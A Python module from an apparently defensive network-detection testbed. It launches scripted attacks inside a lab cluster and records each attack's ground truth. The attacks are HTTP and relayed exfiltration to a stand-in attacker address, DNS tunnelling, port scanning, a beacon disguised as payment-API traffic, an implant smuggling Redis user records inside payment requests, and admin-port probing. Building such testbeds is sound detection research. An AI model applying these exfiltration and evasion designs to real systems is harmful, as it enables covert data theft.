"""How each scenario's attack is launched, and what its ground truth records (orchestrate.py
calls launch). One function per attack kind: it sets run.attack (the ground-truth fields
known at launch, "outs" listing the measurement files the attack writes) and starts the
attack's processes (run.attack_procs) or, for stealthy-exfil, writes the orders implant's
trigger file.
"""

import json
import os
import time

# addresses outside the pods: the attacker, the payment API, the upstream resolver, the node
ATTACKER = "203.0.113.10"
PAYMENT = "198.51.100.20"
UPSTREAM_DNS = "198.51.100.53"
NODE_GW = "10.244.0.1"
# admin-probe: the ports the targets' pods listen on besides their service port (nobody calls
# them in benign traffic), and the ports tried on each target.
ADMIN_LISTEN = {"catalogue": (9090, "metrics"), "user": (8081, "admin"), "carts": (6060, "pprof")}
PROBE_PORTS = [(9090, "/metrics"), (8081, "/admin/config"), (6060, "/debug/pprof/goroutine?debug=1")]
BEACON = {"path": "/cdn-cgi/rum", "host": "static.paygate-cdn.example", "mean": 20.0, "jitter": 0.25,
          "duration": 270}
LIMIT = 150  # s: the 60 s attacks' own time limit


def launch(run, kind):
    out = os.path.join(run.state, "attack-%s.json" % kind)
    KINDS[kind](run, out)
    run.attack["launched_ns"] = time.time_ns()
    run.say("attack %s launched" % kind)


def time_left(run):
    """Seconds of capture left; the long attacks shrink to fit shortened (smoke) runs."""
    return run.sc["duration"] - (time.time() - run.t0)


def direct_exfil(run, out):
    db = run.pods["shop-db-0"]
    run.attack = {"type": "direct_exfil", "path": ["shop-db", "outside"], "pods": [db["name"]], "src_ip": db["ip"],
                  "dst_ip": ATTACKER, "dst_port": 80, "protocol": "tcp/http (POST /api/v2/telemetry/upload, keep-alive)",
                  "target_rate_Bps": 3000, "outs": [out]}
    run.attack_procs.append(run.shop(db["netns"], "exfil-http", "attack", LIMIT, dst_ip=ATTACKER, dst_port=80,
                                     rate=3000, period=2.0, duration=60, out=out))


def multi_hop(run, out):
    db, relay = run.pods["shop-db-0"], run.live("catalogue")[0]
    rout = os.path.join(run.state, "attack-relay.json")
    run.attack = {"type": "multi_hop", "path": ["shop-db", "catalogue", "outside"],
                  "pods": [db["name"], relay["name"]], "src_ip": db["ip"], "dst_ip": ATTACKER,
                  "relay_ip": relay["ip"], "relay_port": 9000, "dst_port": 8443,
                  "protocol": "tcp stream db->catalogue:9000 (new port), then http POST "
                              "catalogue->attacker:8443 /v1/blob (keep-alive)",
                  "target_rate_Bps": 3000, "outs": [out, rout]}
    run.attack_procs.append(run.shop(relay["netns"], "relay", "relay", LIMIT, bind=relay["ip"], listen_port=9000,
                                     dst_ip=ATTACKER, dst_port=8443, period=2.0, out=rout))
    time.sleep(1.0)
    run.attack_procs.append(run.shop(db["netns"], "exfil-stream", "attack", LIMIT, dst_ip=relay["ip"],
                                     dst_port=9000, rate=3000, period=0.5, duration=60, out=out))


def dns_tunnel(run, out):
    db, dns = run.pods["shop-db-0"], run.live("kube-dns")[0]
    run.attack = {"type": "dns_tunnel", "path": ["shop-db", "kube-dns", "outside"],
                  "pods": [db["name"], dns["name"]], "src_ip": db["ip"], "dst_ip": ATTACKER,
                  "resolver_ip": dns["ip"], "dst_port": 53,
                  "protocol": "udp/dns A queries <seq>.<base32 labels>.t.cdn-sync.net via kube-dns "
                              "(forwarded to the attacker's authoritative server)",
                  "target_rate_Bps": 2500, "outs": [out]}
    run.attack_procs.append(run.shop(db["netns"], "dns-tunnel", "attack", LIMIT, dns=dns["ip"], rate=2500,
                                     bytes_per_query=120, label_len=48, duration=60, out=out))


def port_scan(run, out):
    src = run.live("front-end")[0]
    targets = [run.pods["shop-db-0"], run.live("catalogue")[0], run.live("user")[0]]
    run.attack = {"type": "port_scan", "path": ["front-end"], "pods": [src["name"]], "src_ip": src["ip"],
                  "dst_ip": ",".join(t["ip"] for t in targets), "dst_ips": [t["ip"] for t in targets],
                  "targets": [t["name"] for t in targets], "dst_ports": "1-1024",
                  "protocol": "tcp connect scan, ports 1-1024 shuffled per host",
                  "target_rate_probes_per_s": 51.2, "outs": [out]}
    run.attack_procs.append(run.shop(src["netns"], "port-scan", "attack", LIMIT, hosts=[t["ip"] for t in targets],
                                     port_lo=1, port_hi=1024, rate=51.2, out=out))


def beacon(run, out):
    orders, b = run.live("orders")[0], BEACON
    run.attack = {"type": "beacon", "path": ["orders", "outside"], "pods": [orders["name"]],
                  "src_ip": orders["ip"], "dst_ip": PAYMENT, "dst_port": 80,
                  "protocol": "tcp/http POST %s (Host: %s), one short connection per check-in; the same "
                              "address and port as the payment API orders calls" % (b["path"], b["host"]),
                  "http_path": b["path"], "http_host": b["host"], "mean_interval_s": b["mean"],
                  "jitter": b["jitter"], "outs": [out]}
    b = dict(b, duration=max(30, min(b["duration"], time_left(run) - 30)))
    run.attack_procs.append(run.shop(orders["netns"], "beacon", "attack", b["duration"] + 60, dst_ip=PAYMENT,
                                     dst_port=80, out=out, **b))


def stealthy_exfil(run, out):
    db, orders = run.pods["shop-db-0"], run.live("orders")[0]
    cfg = {"rate": 1500, "period": 3.0, "duration": max(10, min(90, time_left(run) - 20)), "out": out}
    run.attack = {"type": "stealthy_exfil", "path": ["shop-db", "orders", "outside"],
                  "pods": [db["name"], orders["name"]], "src_ip": orders["ip"], "dst_ip": PAYMENT,
                  "dst_port": 80, "db_ip": db["ip"],
                  "protocol": "redis MGET of user:* over orders' own connections to shop-db:6379, then "
                              "the records in a \"metadata\" field of POST /v1/charge to the payment API "
                              "(inside real charges, and in extra charges over the same connection pool)",
                  "target_rate_Bps": cfg["rate"], "outs": [out]}
    trigger = os.path.join(run.state, "implant.json")
    with open(trigger + ".tmp", "w") as f:
        json.dump(cfg, f)
    os.replace(trigger + ".tmp", trigger)


def admin_probe(run, out):
    src = run.live("front-end")[0]
    targets = [run.live(s)[0] for s in ("catalogue", "user", "carts")]
    plan = [[t["ip"], port, path] for t in targets for port, path in PROBE_PORTS]
    run.attack = {"type": "admin_probe", "path": ["front-end"], "pods": [src["name"]], "src_ip": src["ip"],
                  "dst_ip": ",".join(t["ip"] for t in targets), "dst_ips": [t["ip"] for t in targets],
                  "targets": [t["name"] for t in targets], "ports": [p for p, _ in PROBE_PORTS],
                  "listening": {t["ip"]: ADMIN_LISTEN[t["owner"]][0] for t in targets},
                  "protocol": "tcp connect to admin/metrics/debug ports of services the front-end calls; "
                              "HTTP GET where the port answers; ~6 connections a minute",
                  "outs": [out]}
    probes = max(10, min(16, int((time_left(run) - 30) / 10)))
    run.attack_procs.append(run.shop(src["netns"], "admin-probe", "attack", 260, targets=plan, probes=probes,
                                     gap=10.0, jitter=0.35, out=out))


def probe_summary(log, t0):
    """admin-probe ground truth: connections per target port, which answered, each probe's time."""
    counts = {}
    for x in log:
        k = "%s:%d" % (x["ip"], x["port"])
        c = counts.setdefault(k, {"attempts": 0, "open": x["open"]})
        c["attempts"] += 1
    return {"counts": counts, "open": sorted(k for k, c in counts.items() if c["open"]),
            "connections_per_minute": round(60 * len(log) / max(1e-9, log[-1]["t"] - log[0]["t"]), 2),
            "probe_log": [{"t_rel": round(x["t"] - t0, 3), "dst": "%s:%d" % (x["ip"], x["port"]), "path": x["path"],
                           "open": x["open"], "bytes_in": x["bytes_in"]} for x in log]}


KINDS = {"direct_exfil": direct_exfil, "multi_hop": multi_hop, "dns_tunnel": dns_tunnel, "port_scan": port_scan,
         "beacon": beacon, "stealthy_exfil": stealthy_exfil, "admin_probe": admin_probe}
